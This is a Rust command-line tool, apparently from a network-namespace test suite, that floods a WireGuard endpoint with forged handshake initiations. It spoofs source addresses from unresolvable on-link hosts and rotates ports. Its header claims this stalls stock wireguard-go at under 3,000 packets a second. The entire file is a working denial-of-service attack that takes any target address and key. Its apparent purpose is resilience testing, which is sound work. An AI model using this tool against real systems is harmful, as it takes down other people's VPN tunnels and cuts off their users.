//! Initiations from on-link addresses that nobody has: each answer waits in the target's neighbour queue and fills its
//! send buffer. Stock wireguard-go 0.0.20220316 stands still under 3,000 a second from 250 such sources.

use std::net::{Ipv4Addr, SocketAddrV4};
use std::process::ExitCode;

use warren_netns_tests::attack::args::{Args, fail};
use warren_netns_tests::attack::forge::{Forger, nth};
use warren_netns_tests::attack::knock::{Key, Noise, initiation};
use warren_netns_tests::attack::pace::pace;
use warren_netns_tests::attack::verdict::verdict;

const USAGE: &str = "attack-unresolvable --target IP:PORT --key BASE64 --from FIRST-ON-LINK-ADDRESS [--sources 250] [--rate 3000] \
                     [--seconds 5]";

fn main() -> ExitCode {
    let args = Args::parse(USAGE);
    let target: SocketAddrV4 = args.need("target");
    let key: Key = args.need("key");
    let from: Ipv4Addr = args.need("from");
    let (sources, rate, seconds) = (args.or("sources", 250), args.or("rate", 3000), args.or("seconds", 5));
    let forger = Forger::new().unwrap_or_else(|e| fail(USAGE, &format!("no raw socket: {e}")));
    let mut noise = Noise(2);
    let mut sent = 0u64;
    pace(rate, seconds, |i| {
        let message = initiation(&key, &mut noise, true, i as u32);
        // The port changes too, so that no limit per source and port hides what is asked here.
        let source = SocketAddrV4::new(nth(from, i, sources), 1024 + (i % 50_000) as u16);
        sent += u64::from(forger.udp(source, target, &message).is_ok());
    });
    // Who forges an address hears nothing: whether the target stood still is seen at its tunnels, not from here.
    let whole = sent >= rate * seconds / 2;
    verdict(
        whole,
        &format!("{sent} initiations from {sources} unresolvable sources sent; watch the target's tunnels"),
    )
}
